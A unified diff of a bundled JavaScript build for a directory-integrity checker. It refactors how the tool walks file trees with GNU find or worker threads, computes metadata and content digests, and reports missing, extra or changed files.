     startsWith(k, prefix) {
         const b = this.bytes;
@@ -39362,8 +40241,9 @@ function splitBatch(bytes, batch, roots, texts) {
  * the lines in about half the time two Node walk workers take: Node's per-entry cost is the lstat
  * binding and its Stats object, not the system call, and a metadata check is nothing but that.
  *
- * The lines are the ones the Node walker (hash-kernel.mjs) writes, in the same order: find emits
- * each directory in readdir order, and find-lines.ts re-sorts the children by name (piping through
+ * The lines are the ones the Node walker (hash-kernel.mjs) writes, in the same order: both take
+ * them from walk-format.mjs (find through its -printf formats). find emits each directory in
+ * readdir order, and find-lines.ts re-sorts the children by name (piping through
  * sort(1) instead, or sorting in worker threads, were both measured slower: sort cannot start
  * before find ends, and workers cost more to start than they save on two cores). Whenever the
  * result could differ in any way, this returns undefined and the caller walks in Node: no find or
@@ -39377,6 +40257,7 @@ function splitBatch(bytes, batch, roots, texts) {
  * one, and a digest that differs only ever sends the check down its full walk. Equal digests are
  * all the fast path trusts, and find's lines are the tree as it is.
  */
+
 
 
 
@@ -39409,37 +40290,17 @@ function executable(bin) {
     }
 }
 /**
- * find's expression: names to prune, then one -printf per type so each line is the digest line
- * itself, path relative to the tree (start points are its top-level names). `top` describes the
- * start points themselves (the tree's top level) instead of what lies below them.
+ * find's expression: names to prune, then walk-format.mjs's -printf per type, so each line is the
+ * digest line itself, path relative to the tree (start points are its top-level names). `top`
+ * describes the start points themselves (the tree's top level) instead of what lies below them.
  */
 function findArgs(kind, ignore, top = false) {
-    // \000, never \0: GNU find reads up to three octal digits, so "\0" + "0" would be one NUL.
-    const line = (type, size) => kind === 'meta'
-        ? `%p\\000${type}\\000${size}\\000%04m\\n`
-        : `%p\\000${type}\\000%D:%i:%T@:%C@\\n`;
     const prune = ignore.flatMap((n, i) => (i === 0 ? ['-name', n] : ['-o', '-name', n]));
     return [
         ...(top ? ['-maxdepth', '0'] : ['-mindepth', '1']),
         ...(prune.length > 0 ? ['(', ...prune, ')', '-prune', '-o'] : []),
         '(',
-        '-type',
-        'f',
-        '-printf',
-        line('f', '%s'),
-        '-o',
-        '-type',
-        'd',
-        '-printf',
-        line('d', '0'),
-        '-o',
-        '-type',
-        'l',
-        '-printf',
-        line('l', '0'),
-        '-o',
-        '-printf',
-        line('o', '0'),
+        ...findPrintArgs(kind),
         ')'
     ];
 }
@@ -39637,16 +40498,11 @@ function assemble(l, top, subtrees, raw) {
     return { digest: h.digest('hex'), files, unreadable: [], raw };
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/walk.ts
+;// CONCATENATED MODULE: ./src/core/verify/walk-workers.ts
 /**
- * The tree walk and the digests defined over it. Order: depth-first, children by name in JavaScript
- * string order, so no global sort is needed. Symlinks are recorded, never followed. Names are
- * bytes (see byte-names.mjs): lines hold them as the file system does, so a name that is not UTF-8
- * is walked, digested and indexed like any other. Each record contributes one line to each digest:
- *   meta:    relpath NUL type NUL size NUL mode LF         (type f, d, l or o; size 0 unless f)
- *   content: the meta line's fields, NUL sha256 (files) or link target (links), LF
- *   stamp:   relpath NUL type NUL dev:inode:mtime:ctime LF  (the incremental-cache key; times as
- *            GNU find's %T@ prints them, so the native walker's lines need no conversion)
+ * The walk on worker threads: the main thread lists the tree's upper levels (splitTop) and walk
+ * workers (hash-kernel.mjs) walk the directories below them, each in walk-format.mjs's order and
+ * writing its lines; the results are stitched back here in walk order.
  */
 
 
@@ -39656,169 +40512,8 @@ function assemble(l, top, subtrees, raw) {
 
 
 
-
-
-
-/** The incremental-cache identity of a walked entry: dev:ino:mtime_ns:ctime_ns. */
-function ident(r) {
-    return `${r.dev}:${r.ino}:${r.mtimeNs}:${r.ctimeNs}`;
-}
-
-const MODES = new Map();
-function walk_modeText(mode) {
-    let t = MODES.get(mode);
-    if (t === undefined) {
-        t = octal(mode);
-        MODES.set(mode, t);
-    }
-    return t;
-}
-function metaLine(r) {
-    return `${r.rel}\0${r.type}\0${r.type === 'f' ? r.size : 0}\0${walk_modeText(r.mode)}\n`;
-}
-/** Feed digest lines to a hash: as UTF-8, or as the name bytes they carry when not plain text. */
-function updateLines(h, text) {
-    h.update(text.isWellFormed() ? text : bytesOf(text));
-}
-/** Hash one line per record, in chunks (one hash update per record costs more than the hash). */
-function digestLines(records, line) {
-    const h = (0,external_node_crypto_.createHash)('sha256');
-    const CHUNK = 2048;
-    for (let i = 0; i < records.length; i += CHUNK) {
-        let text = '';
-        const end = Math.min(records.length, i + CHUNK);
-        for (let k = i; k < end; k++)
-            text += line(records[k], k);
-        updateLines(h, text);
-    }
-    return h.digest('hex');
-}
-/** The metadata digest: relpath, type, size and mode of every entry in walk order. */
-function metaDigestOf(records) {
-    return digestLines(records, metaLine);
-}
-/** One stamp line: path and identity (the worker kernel spells it the same way). */
-function stampLine(r) {
-    return `${r.rel}\0${r.type}\0${r.dev}:${r.ino}:${stampTime(r.mtimeNs)}:${stampTime(r.ctimeNs)}\n`;
-}
-/**
- * The cache stamp: every entry's path and identity (dev, inode, mtime_ns, ctime_ns). Any change of
- * type, size or mode also changes ctime, so the stamp vouches for the metadata digest too.
- */
-function stampOf(records) {
-    return digestLines(records, stampLine);
-}
-/** The record of one lstat'ed entry. */
-function recordOf(rel, st) {
-    const type = st.isFile()
-        ? 'f'
-        : st.isDirectory()
-            ? 'd'
-            : st.isSymbolicLink()
-                ? 'l'
-                : 'o';
-    return {
-        rel,
-        type,
-        size: type === 'f' ? Number(st.size) : 0,
-        mode: Number(st.mode & 4095n),
-        dev: st.dev,
-        ino: st.ino,
-        mtimeNs: st.mtimeNs,
-        ctimeNs: st.ctimeNs
-    };
-}
-/**
- * Walk the tree at `root` (already known to be a real directory), collecting one record per entry;
- * digests are computed afterwards, only those the caller needs. `exclude` holds absolute paths of
- * swr's own files (state directory, manifest, tree indexes) that are never part of a tree.
- */
-function walkTree(root, ignore, exclude = new Set()) {
-    const ignored = ignoreMatcher(ignore);
-    const records = [];
-    const unreadable = [];
-    let files = 0;
-    const visit = (absDir, relDir) => {
-        let names;
-        try {
-            names = readNames(absDir);
-        }
-        catch (err) {
-            unreadable.push({ rel: relDir || '.', code: err.code ?? 'EIO' });
-            return;
-        }
-        names.sort();
-        for (const name of names) {
-            const rel = relDir ? `${relDir}/${name}` : name;
-            const abs = `${absDir}/${name}`;
-            if (exclude.has(abs))
-                continue;
-            const st = external_node_fs_default().lstatSync(fsPath(abs), { bigint: true, throwIfNoEntry: false });
-            if (!st)
-                continue; // vanished between readdir and lstat: the same as not there
-            if (ignored(rel, name, st.isDirectory()))
-                continue;
-            const rec = recordOf(rel, st);
-            records.push(rec);
-            if (rec.type === 'd')
-                visit(abs, rel);
-            else
-                files++;
-        }
-    };
-    visit(root, '');
-    return { records, files, unreadable };
-}
-/** The content digest, given each file's sha256 and each link's target (by record index). */
-function contentDigest(records, extra) {
-    return digestLines(records, (r, i) => `${metaLine(r).slice(0, -1)}\0${extra[i] ?? ''}\n`);
-}
-/** Link targets for the link records (readlink never follows). */
-function linkTargets(root, records) {
-    return records.map(r => {
-        if (r.type !== 'l')
-            return undefined;
-        try {
-            return readTarget(external_node_path_default().join(root, r.rel));
-        }
-        catch {
-            return '';
-        }
-    });
-}
-/** A walk whose digests are computed only if and when something reads them. */
-function lazyDigests(walk, knownMeta) {
-    let meta;
-    let stamp;
-    // Getters, not a copy: a parallel walk's records are unpacked only when something reads them.
-    return {
-        get records() {
-            return walk.records;
-        },
-        files: walk.files,
-        unreadable: walk.unreadable,
-        get shas() {
-            return walk.shas;
-        },
-        pre: walk.pre,
-        get metaDigest() {
-            meta ??= walk.pre?.meta ?? knownMeta?.() ?? metaDigestOf(walk.records);
-            return meta;
-        },
-        get stamp() {
-            stamp ??= walk.pre?.stamp ?? stampOf(walk.records);
-            return stamp;
-        }
-    };
-}
 /** The smallest number of top-level subdirectories worth splitting across workers. */
 const MIN_ROOTS = 16;
-/**
- * The smallest tree (recorded files) worth a find whatever its shape: starting the shell and the
- * finds costs ~15 ms, about what the Node walker spends on 1,000 entries (lstat ~10-15 µs each
- * here, plus the garbage), and find walks the rest at about half Node's cost per entry.
- */
-const NATIVE_MIN_FILES = 1000;
 /** How many levels below the root the main thread lists, at most, to find enough subdirectories. */
 const MAX_SPLIT_DEPTH = 3;
 /**
@@ -39832,25 +40527,14 @@ function splitTop(root, ignore, exclude) {
     // Workers match plain names only; a glob rule keeps the walk inline (see ignore-rules.ts).
     if (!allPlainNames(ignore))
         return undefined;
-    const ignored = ignoreMatcher(ignore);
+    const rules = { exclude, ignored: ignore_rules_ignoreMatcher(ignore) };
     const list = (relDir) => {
-        const absDir = relDir ? `${root}/${relDir}` : root;
-        let names;
+        const out = [];
         try {
-            names = readNames(absDir).sort();
+            eachChild(relDir ? `${root}/${relDir}` : root, relDir, rules, (_abs, rel, type, st) => out.push(recordOf(rel, type, st)));
         }
         catch {
             return undefined;
-        }
-        const out = [];
-        for (const name of names) {
-            const rel = relDir ? `${relDir}/${name}` : name;
-            const abs = `${absDir}/${name}`;
-            if (exclude.has(abs))
-                continue;
-            const st = external_node_fs_default().lstatSync(fsPath(abs), { bigint: true, throwIfNoEntry: false });
-            if (st && !ignored(rel, name, st.isDirectory()))
-                out.push(recordOf(rel, st));
         }
         return out;
     };
@@ -39859,12 +40543,12 @@ function splitTop(root, ignore, exclude) {
         return undefined;
     // `open`: a directory whose entries are listed here (so not a root).
     let level = first.map(rec => ({ rec, open: false }));
-    const roots = () => level.filter(x => x.rec.type === 'd' && !x.open).length;
+    const roots = () => level.filter(x => x.rec.type === TYPE.dir && !x.open).length;
     for (let depth = 1; roots() > 0 && roots() < MIN_ROOTS && depth < MAX_SPLIT_DEPTH; depth++) {
         const next = [];
         for (const x of level) {
             next.push(x);
-            if (x.rec.type !== 'd' || x.open)
+            if (x.rec.type !== TYPE.dir || x.open)
                 continue;
             const below = list(x.rec.rel);
             if (!below)
@@ -39878,7 +40562,7 @@ function splitTop(root, ignore, exclude) {
         return undefined;
     const split = { top: [], roots: [] };
     for (const { rec, open } of level) {
-        const sub = rec.type === 'd' && !open
+        const sub = rec.type === TYPE.dir && !open
             ? split.roots.push({ abs: `${root}/${rec.rel}`, rel: rec.rel }) - 1
             : -1;
         split.top.push({ rec, sub });
@@ -39886,56 +40570,18 @@ function splitTop(root, ignore, exclude) {
     return split;
 }
 /**
- * The top level's names in walk order, typed from the directory listing (the file system's d_type;
- * Node falls back to lstat where it is unknown). Undefined when the root cannot be listed.
+ * The metadata digest or the cache stamp of the tree `split` describes, from walk workers that
+ * return each subtree's lines as text, hashed here in walk order (no per-entry records).
  */
-function listTop(root, ignore, exclude) {
-    let entries;
-    try {
-        entries = readEntries(root);
-    }
-    catch {
-        return undefined;
-    }
-    const ignored = ignoreMatcher(ignore);
-    return entries
-        .map(d => ({ rel: d.name, dir: d.dir }))
-        .filter(t => !ignored(t.rel, t.rel, t.dir) && !exclude.has(`${root}/${t.rel}`))
-        .sort((a, b) => (a.rel < b.rel ? -1 : 1));
-}
-/**
- * The metadata digest or the cache stamp of a large tree without building per-entry records: from
- * GNU find's lines where native-walk.ts can promise the Node walker's, else from walk workers that
- * return each subtree's lines as text, hashed here in walk order. Undefined when the tree is too
- * small or flat for either (the caller walks it inline).
- */
-async function digestTreeParallel(root, ignore, exclude, opts) {
-    const jobs = Math.min(opts.jobs ?? external_node_os_default().availableParallelism(), 8);
-    if (opts.native !== false) {
-        // find describes the top level too: only the listing is read here (no lstat per entry).
-        const top = listTop(root, ignore, exclude);
-        const dirs = top?.filter(t => t.dir).length ?? 0;
-        if (top && dirs > 0 && (dirs >= MIN_ROOTS || (opts.expectFiles ?? 0) >= NATIVE_MIN_FILES)) {
-            const r = await nativeTreeDigest(root, top, ignore, exclude, opts.kind, jobs, {
-                known: opts.known
-            });
-            if (r)
-                return r;
-        }
-    }
-    if (jobs < 2)
-        return undefined;
-    const split = splitTop(root, ignore, exclude);
-    if (!split)
-        return undefined;
-    const line = opts.kind === 'meta' ? metaLine : stampLine;
-    const texts = await inWorkers({ swrTextWorker: true, kind: opts.kind }, split.roots, ignore, exclude, jobs);
+async function digestInWorkers(split, ignore, exclude, kind, jobs) {
+    const line = kind === 'meta' ? walk_metaLine : walk_stampLine;
+    const texts = await inWorkers({ swrTextWorker: true, kind }, split.roots, ignore, exclude, jobs);
     const h = (0,external_node_crypto_.createHash)('sha256');
     let files = 0;
     const unreadable = [];
     for (const { rec, sub } of split.top) {
         updateLines(h, line(rec));
-        if (rec.type !== 'd')
+        if (rec.type !== TYPE.dir)
             files++;
         const t = sub >= 0 ? texts[sub] : undefined;
         if (!t)
@@ -39947,19 +40593,15 @@ async function digestTreeParallel(root, ignore, exclude, opts) {
     return { digest: h.digest('hex'), files, unreadable };
 }
 /**
- * The same walk on every core: the main thread reads the top level, workers claim its
- * subdirectories one at a time (lstat, and with `hash` also the file hashes, in one pass) and the
- * results are stitched back in walk order. Workers return each subtree's digest lines as text, so
- * this thread only hashes them in order; the records are unpacked from packed columns only if
- * something asks for them (a diff). Small or flat trees are walked inline.
+ * The same walk on every core: this thread describes the upper levels `split` listed, workers
+ * claim the directories below them one at a time (lstat, and with `hash` also the file hashes, in
+ * one pass) and the results are stitched back in walk order. Workers return each subtree's digest
+ * lines as bytes, so this thread only hashes them in order; the records are unpacked from packed
+ * columns only if something asks for them (a diff).
  */
-async function walkTreeParallel(root, ignore, exclude, opts) {
-    const jobs = Math.min(opts.jobs ?? external_node_os_default().availableParallelism(), 8);
-    const split = jobs < 2 ? undefined : splitTop(root, ignore, exclude);
-    if (!split)
-        return walkTree(root, ignore, exclude);
+async function walkInWorkers(root, split, ignore, exclude, opts) {
     const { top, roots } = split;
-    const working = walkRootsInWorkers(roots, ignore, exclude, opts.hash, jobs);
+    const working = walkRootsInWorkers(roots, ignore, exclude, opts.hash, opts.jobs);
     // This thread's own entries (lines, and the files' hashes) while the workers walk theirs.
     const own = top.map(({ rec }) => {
         let content;
@@ -39967,16 +40609,16 @@ async function walkTreeParallel(root, ignore, exclude, opts) {
         let cached;
         if (opts.hash) {
             let extra;
-            if (rec.type === 'f') {
+            if (rec.type === TYPE.file) {
                 extra = sha = walkedOrError(`${root}/${rec.rel}`, rec.size);
                 if (sha !== undefined)
                     cached = Buffer.from(`,${JSON.stringify(rec.rel)}:${JSON.stringify(cacheValue(rec, sha))}`);
             }
-            else if (rec.type === 'l')
-                extra = linkTargets(root, [rec])[0];
-            content = `${metaLine(rec).slice(0, -1)}\0${extra ?? ''}\n`;
+            else if (rec.type === TYPE.link)
+                extra = walk_linkTargets(root, [rec])[0];
+            content = contentLine(metaFields(rec.rel, rec.type, rec.size, rec.mode), extra ?? '');
         }
-        return { meta: metaLine(rec), stamp: stampLine(rec), content, sha, cached };
+        return { meta: walk_metaLine(rec), stamp: walk_stampLine(rec), content, sha, cached };
     });
     const results = await working;
     const meta = (0,external_node_crypto_.createHash)('sha256');
@@ -39991,13 +40633,13 @@ async function walkTreeParallel(root, ignore, exclude, opts) {
         const o = own[k];
         updateLines(meta, o.meta);
         updateLines(stamp, o.stamp);
-        if (rec.type !== 'd')
+        if (rec.type !== TYPE.dir)
             files++;
         if (o.content !== undefined) {
             updateLines(content, o.content);
-            if (rec.type === 'f')
+            if (rec.type === TYPE.file)
                 topShas.set(k, o.sha);
-            if (rec.type === 'f' && o.sha === undefined)
+            if (rec.type === TYPE.file && o.sha === undefined)
                 failed++;
             if (o.cached)
                 cache.push(o.cached);
@@ -40041,10 +40683,6 @@ async function walkTreeParallel(root, ignore, exclude, opts) {
         pre
     };
 }
-/** A file's entry in the per-file cache: its identity, size and sha256. */
-function cacheValue(r, sha256) {
-    return `${ident(r)} ${r.size} ${sha256}`;
-}
 /** NUL-separated name bytes as names (byte-names.mjs spelling). */
 function splitNames(bytes) {
     const b = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.length);
@@ -40082,15 +40720,13 @@ function unpackWalk(top, results, topShas) {
                 ctimeNs: r.ctimes[i]
             });
             const sha = hex.slice(i * 64, i * 64 + 64);
-            shas.push(sha === walk_NO_SHA ? undefined : sha);
+            shas.push(sha === NO_SHA ? undefined : sha);
         }
     });
     return { records, shas };
 }
 const OPEN = Buffer.from('{');
 const CLOSE = Buffer.from('}');
-/** The sha256 slot of a record with none (hash-kernel.mjs writes the same). */
-const walk_NO_SHA = '-'.repeat(64);
 function walkRootsInWorkers(roots, ignore, exclude, hash, jobs) {
     return inWorkers({ swrWalkWorker: true, hash }, roots, ignore, exclude, jobs);
 }
@@ -40110,7 +40746,7 @@ function inWorkers(role, roots, ignore, exclude, jobs) {
         exclude: [...exclude]
     };
     const one = () => new Promise((resolve, reject) => {
-        const w = new external_node_worker_threads_.Worker(kernelUrl(), { workerData });
+        const w = new external_node_worker_threads_.Worker(hash_pool_kernelUrl(), { workerData });
         let finished = false;
         w.on('message', (m) => {
             if (m === 'done') {
@@ -40131,6 +40767,77 @@ function inWorkers(role, roots, ignore, exclude, jobs) {
     return Promise.all(Array.from({ length: Math.min(jobs, roots.length) }, one)).then(() => results);
 }
 
+;// CONCATENATED MODULE: ./src/core/verify/walk-strategy.ts
+/**
+ * Which walker walks a tree. Every walker gives the same lines in the same order (walk-format.mjs),
+ * so the choice is about speed only: GNU find (native-walk.ts) for the record-less digests of a
+ * large tree, else walk workers when the tree splits into enough subtrees (walk-workers.ts), else
+ * the inline walk (walk.ts). `SWR_NATIVE_WALK=0` turns the find path off (a find that misbehaves
+ * on some file system, or to compare the walkers); `1` or unset leaves it on.
+ */
+
+
+
+
+
+/** The variable that turns the native walk off. */
+const NATIVE_WALK_VAR = 'SWR_NATIVE_WALK';
+/**
+ * The smallest tree (recorded files) worth a find whatever its shape: starting the shell and the
+ * finds costs ~15 ms, about what the Node walker spends on 1,000 entries (lstat ~10-15 µs each
+ * here, plus the garbage), and find walks the rest at about half Node's cost per entry.
+ */
+const NATIVE_MIN_FILES = 1000;
+/** More workers than this cost more to start than they save (the walk is bound by the disk). */
+const MAX_JOBS = 8;
+/** Whether the environment allows the native walk; a value other than 0 or 1 is refused (exit 4). */
+function nativeWalkAllowed(env) {
+    const v = env[NATIVE_WALK_VAR];
+    if (v === undefined || v === '' || v === '1')
+        return true;
+    if (v === '0')
+        return false;
+    throw new errors_SwrError(`${NATIVE_WALK_VAR} must be 0 (no find) or 1 (the default)`, errors_EXIT.BAD_MANIFEST);
+}
+function jobsOf(jobs) {
+    return Math.min(jobs ?? external_node_os_default().availableParallelism(), MAX_JOBS);
+}
+/**
+ * The metadata digest or the cache stamp of a large tree without building per-entry records: from
+ * GNU find's lines where native-walk.ts can promise the Node walker's, else from walk workers.
+ * Undefined when the tree is too small or flat for either (the caller walks it inline).
+ */
+async function digestTreeParallel(root, ignore, exclude, opts) {
+    const jobs = jobsOf(opts.jobs);
+    if (opts.native !== false) {
+        // find describes the top level too: only the listing is read here (no lstat per entry).
+        const top = listTop(root, ignore, exclude);
+        const dirs = top?.filter(t => t.dir).length ?? 0;
+        if (top && dirs > 0 && (dirs >= MIN_ROOTS || (opts.expectFiles ?? 0) >= NATIVE_MIN_FILES)) {
+            const r = await nativeTreeDigest(root, top, ignore, exclude, opts.kind, jobs, {
+                known: opts.known
+            });
+            if (r)
+                return r;
+        }
+    }
+    if (jobs < 2)
+        return undefined;
+    const split = splitTop(root, ignore, exclude);
+    return split && digestInWorkers(split, ignore, exclude, opts.kind, jobs);
+}
+/**
+ * The tree's records (and, with `hash`, its files' hashes and every digest) on every core when it
+ * splits into enough subtrees; small or flat trees are walked inline.
+ */
+async function walkTreeParallel(root, ignore, exclude, opts) {
+    const jobs = jobsOf(opts.jobs);
+    const split = jobs < 2 ? undefined : splitTop(root, ignore, exclude);
+    if (!split)
+        return walk_walkTree(root, ignore, exclude);
+    return walkInWorkers(root, split, ignore, exclude, { hash: opts.hash, jobs });
+}
+
 ;// CONCATENATED MODULE: ./src/core/verify/tree.ts
 /**
  * `tree` entries: a directory judged by its sentinels, file-count bounds, a metadata digest and a
@@ -40138,6 +40845,7 @@ function inWorkers(role, roots, ignore, exclude, jobs) {
  * nothing; a sentinel catches a gutted tree, the digests catch one changed byte among thousands,
  * and the index names what changed. Warm checks re-hash only files whose identity changed.
  */
+
 
 
 
@@ -40171,7 +40879,7 @@ async function verifyTree(e, ctx) {
     const found = { type: 'directory', files: walk.files, meta: verifier_short(walk.metaDigest) };
     const early = judgeStructure(e, ctx, root, walk, recorded, found);
     if (ctx.metaOnly || !want.content_digest) {
-        return early ?? finding(e, 'OK', 'ok', okDetail(e, walk, false), recorded, found);
+        return early?.finding ?? finding(e, 'OK', 'ok', okDetail(e, walk, false), recorded, found);
     }
     if (!early && cachedTree && cachedTree.stamp === walk.stamp) {
         return judgeContent(e, ctx, root, walk, cachedTree.contentDigest, undefined, recorded, found, true);
@@ -40199,7 +40907,7 @@ async function judgeFromDigest(e, ctx, root, cachedTree, recorded) {
         kind,
         // find's lines are trusted only through a digest they must equal: with no recorded metadata
         // digest a --meta check would judge from find's file count alone, so the Node walker counts.
-        native: kind === 'stamp' || want.meta_digest !== undefined,
+        native: ctx.nativeWalk !== false && (kind === 'stamp' || want.meta_digest !== undefined),
         expectFiles: want.files ?? want.min_files,
         ...(known ? { known } : {})
     });
@@ -40217,7 +40925,7 @@ async function judgeFromDigest(e, ctx, root, cachedTree, recorded) {
         (want.meta_digest !== undefined && metaDigest !== want.meta_digest))
         return undefined;
     let full;
-    const records = () => (full ??= walkTree(root, e.ignore, ctx.exclude));
+    const records = () => (full ??= walk_walkTree(root, e.ignore, ctx.exclude));
     const walk = {
         get records() {
             return records().records;
@@ -40243,34 +40951,36 @@ function tree_diffIndex(recorded, now, nowExtra) {
     return {
         ...d,
         diff: {
-            missing: missing.map(shownName),
-            extra: extra.map(shownName),
-            changed: changed.map(c => ({ path: shownName(c.path), what: shownName(c.what) })),
+            missing: missing.map(byte_names_shownName),
+            extra: extra.map(byte_names_shownName),
+            changed: changed.map(c => ({ path: byte_names_shownName(c.path), what: byte_names_shownName(c.what) })),
             counts
         }
     };
 }
-/** Fold the per-file content differences into a structural finding. */
+/**
+ * Fold the per-file content differences into a structural finding: the file list is replaced by
+ * one that also names content changes; sentinel and count problems stand as they were.
+ */
 function withContentDiff(early, e, ctx, walk, shas) {
-    if (!early.files)
-        return early;
+    const f = early.finding;
+    if (!f.files)
+        return f;
     const index = ctx.readIndex(e.id, e.expect.index);
     if (!index)
-        return early;
+        return f;
     const d = tree_diffIndex(index, walk.records, shas);
     // Only a content or target change adds anything: mode-only differences were already named.
     if (!d.contentChanged)
-        return early;
-    const stripped = early.status === 'STRIPPED';
-    const kept = early.detail
-        .split('; ')
-        .filter(p => p.startsWith('sentinel ') || p.includes(' files (want'));
+        return f;
+    const stripped = f.status === 'STRIPPED';
+    const kept = early.problems.filter(p => p.kind === 'sentinel' || p.kind === 'count');
     return {
-        ...early,
-        status: stripped ? 'CORRUPT' : early.status,
-        reason: stripped ? 'content' : early.reason,
+        ...f,
+        status: stripped ? 'CORRUPT' : f.status,
+        reason: stripped ? 'content' : f.reason,
         files: d.diff,
-        detail: [...kept, describeDiff(d.diff)].join('; ')
+        detail: [...kept.map(p => p.text), describeDiff(d.diff)].join('; ')
     };
 }
 /** Everything that needs no hashing: emptiness, sentinels, unreadable parts, counts, metadata. */
@@ -40278,21 +40988,20 @@ function judgeStructure(e, ctx, root, walk, recorded, found) {
     const want = e.expect;
     if (walk.files === 0 && (want.files ?? want.min_files) > 0) {
         const detail = `directory holds no files (want ${num(want.files ?? want.min_files)})`;
-        return finding(e, 'EMPTY', 'empty', detail, recorded, found);
+        return { finding: finding(e, 'EMPTY', 'empty', detail, recorded, found), problems: [] };
     }
     const problems = [];
-    const sentinels = checkSentinels(root, want.sentinels);
-    if (sentinels.length > 0)
-        problems.push(...sentinels);
+    const add = (kind, text) => problems.push({ kind, text });
+    for (const s of checkSentinels(root, want.sentinels))
+        add('sentinel', s);
     if (walk.unreadable.length > 0) {
-        const shown = walk.unreadable.map(u => `${shownName(u.rel)} (${u.code})`);
-        problems.push(`unreadable: ${shown.join(', ')}`);
+        const shown = walk.unreadable.map(u => `${byte_names_shownName(u.rel)} (${u.code})`);
+        add('unreadable', `unreadable: ${shown.join(', ')}`);
     }
     if (walk.files < want.min_files)
-        problems.push(`${num(walk.files)} files (want at least ${num(want.min_files)})`);
-    if (want.max_files !== undefined && walk.files > want.max_files) {
-        problems.push(`${num(walk.files)} files (want at most ${num(want.max_files)})`);
-    }
+        add('count', `${num(walk.files)} files (want at least ${num(want.min_files)})`);
+    if (want.max_files !== undefined && walk.files > want.max_files)
+        add('count', `${num(walk.files)} files (want at most ${num(want.max_files)})`);
     let files;
     let execOnly = false;
     if (want.meta_digest && walk.metaDigest !== want.meta_digest) {
@@ -40301,23 +41010,25 @@ function judgeStructure(e, ctx, root, walk, recorded, found) {
             const d = tree_diffIndex(index, walk.records);
             files = d.diff;
             execOnly = d.execLossOnly;
-            problems.push(describeDiff(d.diff));
+            add('files', describeDiff(d.diff));
         }
         else {
-            problems.push(`metadata digest ${verifier_short(walk.metaDigest)} (want ${verifier_short(want.meta_digest)}); no usable index to name the files`);
+            add('digest', `metadata digest ${verifier_short(walk.metaDigest)} (want ${verifier_short(want.meta_digest)}); no usable index to name the files`);
         }
     }
     if (problems.length === 0)
         return undefined;
     const stripped = execOnly && problems.length === 1;
-    const reason = stripped ? 'exec' : sentinels.length > 0 ? 'sentinel' : files ? 'files' : 'count';
-    const f = finding(e, stripped ? 'STRIPPED' : 'CORRUPT', reason, problems.join('; '), recorded, found);
-    return files ? { ...f, files } : f;
+    const sentinel = problems.some(p => p.kind === 'sentinel');
+    const reason = stripped ? 'exec' : sentinel ? 'sentinel' : files ? 'files' : 'count';
+    const detail = problems.map(p => p.text).join('; ');
+    const f = finding(e, stripped ? 'STRIPPED' : 'CORRUPT', reason, detail, recorded, found);
+    return { finding: files ? { ...f, files } : f, problems };
 }
 function checkSentinels(root, sentinels) {
     const out = [];
     for (const s of sentinels) {
-        const loc = locateInside(root, s);
+        const loc = locate_entry_locateInside(root, s);
         if (loc.state !== 'present')
             out.push(`sentinel missing: ${s}`);
         else if (loc.st.isFile() && loc.st.size === 0n)
@@ -40360,7 +41071,7 @@ function planContentHash(e, ctx, root, walk, recorded, found, early) {
         };
     }
     const known = ctx.cache.treeFiles(e.id);
-    const shas = linkTargets(root, walk.records);
+    const shas = walk_linkTargets(root, walk.records);
     const jobs = [];
     const jobIndex = [];
     walk.records.forEach((r, i) => {
@@ -40387,11 +41098,11 @@ function planContentHash(e, ctx, root, walk, recorded, found, early) {
             results.forEach((res, k) => {
                 const i = jobIndex[k] ?? 0;
                 if ('error' in res)
-                    unreadable.push(shownName(walk.records[i]?.rel ?? '?'));
+                    unreadable.push(byte_names_shownName(walk.records[i]?.rel ?? '?'));
                 else
                     shas[i] = res.sha256;
             });
-            const digest = contentDigest(walk.records, shas);
+            const digest = walk_contentDigest(walk.records, shas);
             const files = new Map();
             walk.records.forEach((r, i) => {
                 if (r.type === 'f' && shas[i])
@@ -40433,7 +41144,7 @@ function judgeContent(e, ctx, root, walk, digest, shas, recorded, found, cached)
 }
 /** Link targets and the hashes the walk made, by record index (for a diff). */
 function walkExtras(root, walk) {
-    const extras = linkTargets(root, walk.records);
+    const extras = walk_linkTargets(root, walk.records);
     const shas = walk.shas ?? [];
     walk.records.forEach((r, i) => {
         if (r.type === 'f')
@@ -40443,12 +41154,12 @@ function walkExtras(root, walk) {
 }
 /** Recompute per-file hashes synchronously (only on a cached mismatch, which is rare). */
 function contentExtras(root, walk) {
-    const extras = linkTargets(root, walk.records);
+    const extras = walk_linkTargets(root, walk.records);
     walk.records.forEach((r, i) => {
         if (r.type !== 'f')
             return;
         try {
-            extras[i] = hashFile(`${root}/${r.rel}`).sha256;
+            extras[i] = hash_kernel_hashFile(`${root}/${r.rel}`).sha256;
         }
         catch {
             extras[i] = undefined;
@@ -40507,7 +41218,7 @@ async function verify_verifyEntries(entries, ctx, pool = {}) {
     // are wanted by the tree walks meanwhile.
     const big = earlyJobs.filter(j => j.cost >= INLINE_BYTES).length;
     const earlyHashed = earlyJobs.length > 0
-        ? hashAll(earlyJobs, { ...pool, maxWorkers: Math.max(1, big) })
+        ? hash_pool_hashAll(earlyJobs, { ...pool, maxWorkers: Math.max(1, big) })
         : Promise.resolve([]);
     // Not left unhandled while the trees are walked: it is awaited below.
     earlyHashed.catch(() => undefined);
@@ -40518,7 +41229,7 @@ async function verify_verifyEntries(entries, ctx, pool = {}) {
     const lateJobs = late.flatMap(p => p.jobs);
     const results = [
         ...(await earlyHashed),
-        ...(lateJobs.length > 0 ? await hashAll(lateJobs, pool) : [])
+        ...(lateJobs.length > 0 ? await hash_pool_hashAll(lateJobs, pool) : [])
     ];
     let offset = 0;
     const judged = new Map();
@@ -40530,10 +41241,10 @@ async function verify_verifyEntries(entries, ctx, pool = {}) {
     return inspected.map(i => (isPending(i) ? judged.get(i) : i));
 }
 
-;// CONCATENATED MODULE: ./src/core/check.ts
+;// CONCATENATED MODULE: ./src/core/verify/selection.ts
 /**
- * `check` as an engine call: select entries, verify them through one hash pool and the incremental
- * cache, and build the report. Read-only: no recipe, smoke command or ldd runs, and nothing in the
+ * Checking a selection of entries: select them, verify them through one hash pool and the
+ * incremental cache, and make the report of what was found. Read-only: no recipe, smoke command or ldd runs, and nothing in the
  * workspace is written (the cache lives in the private state directory).
  */
 
@@ -40546,7 +41257,7 @@ async function verify_verifyEntries(entries, ctx, pool = {}) {
 
 
 /** The entries `only` names, in manifest order; an unknown id is a usage error. */
-function selectEntries(entries, only) {
+function selection_selectEntries(entries, only) {
     if (!only || only.length === 0)
         return [...entries];
     const known = new Set(entries.map(e => e.id));
